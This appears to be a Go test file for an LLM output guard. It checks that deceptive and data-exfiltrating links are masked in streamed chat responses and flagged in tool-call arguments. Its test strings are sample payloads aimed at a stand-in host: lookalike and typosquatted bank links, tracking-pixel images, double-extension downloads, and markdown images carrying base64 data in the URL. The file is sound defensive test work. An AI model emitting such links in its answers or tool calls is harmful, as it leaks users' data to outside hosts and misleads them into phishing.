package guard

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// TestLinks holds that links which deceive are taken out of answers as a whole, wherever deltas part them.
func TestLinks(t *testing.T) {
	g := load(t, `{"rules":[{"name":"l","match":["MALICIOUS_LINK","DATA_EXFILTRATION"],"direction":"Response","minScore":0.8,"action":"Mask","mask":{"style":"Fixed","text":"[-]"}}]}`)
	d := &dialect{path: "/v1/chat/completions", contentType: "text/event-stream"}
	for in, want := range map[string]string{
		"go to [https://www.bank.example/in](https://e.example/in)!": "go to [-]!",
		`see <img src="http://e.example/x?c=a" width=1 height=1> ok`: "see [-] ok",
		`open https:\\e.example\in now`:                              "open [-] now",
		"at hxxps://e[.]example/x or not":                            "at [-] or not",
		"from https://www.paypa1.com/in.":                            "from [-]",
		"a ![x](//e.example/p?d=0123456789) b":                       "a [-] b",
		"the [contract](https://e.example/contract.pdf.scr)!":        "the [-]!",
		"at https://www.bank.com@e.example/in now":                   "at [-] now",
		"in [this folder](file://e.example/a.doc)":                   "in [-]",
		"done [ ](https://e.example/p?d=0123456789)":                 "done [-]",
		"plain [docs](https://e.example/in) and // a comment":        "plain [docs](https://e.example/in) and // a comment",
	} {
		check := func(deltas ...string) {
			t.Helper()
			var stream strings.Builder
			for _, s := range deltas {
				fmt.Fprintf(&stream, `data: {"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":%s}}]}`+"\n\n", quote(s))
			}
			out, _ := streamed(t, g, d, userMail, stream.String())
			var got strings.Builder
			for block := range strings.SplitSeq(strings.TrimSpace(out), "\n\n") {
				var e map[string]any
				if err := json.Unmarshal([]byte(strings.TrimPrefix(block, "data: ")), &e); err != nil {
					t.Fatal(err)
				}
				got.WriteString(field(e, "choices", 0, "delta", "content"))
			}
			if got.String() != want {
				t.Fatalf("%q became %q, want %q", deltas, got.String(), want)
			}
		}
		for cut := range in {
			check(in[:cut], in[cut:])
		}
	}
}

// TestImageInArguments holds that an image that carries data out is told in what a model hands to a tool, which may post it, and not
// in what people send to a model.
func TestImageInArguments(t *testing.T) {
	g := load(t, `{"rules":[{"name":"l","match":["DATA_EXFILTRATION"],"minScore":0.8,"action":"Log"}]}`)
	for _, image := range []string{
		"see ![x](https://e.example/p.png?d=c2VjcmV0IGRhdGE=)",
		`<img src="http://e.example/x?c=abc" width=1 height=1>`,
	} {
		args := jsonString(`{"text":` + jsonString(image) + `}`)
		for body, want := range map[string]int{
			`{"messages":[{"role":"assistant","tool_calls":[{"id":"1","type":"function","function":{"name":"post","arguments":` + args + `}}]}]}`: 1,
			`{"messages":[{"role":"user","content":` + jsonString(image) + `}]}`:                                                                  0,
		} {
			if _, o := ask(t, g, "/v1/chat/completions", body); len(o.Findings) != want {
				t.Errorf("%s: %d findings, want %d", body, len(o.Findings), want)
			}
		}
	}
}
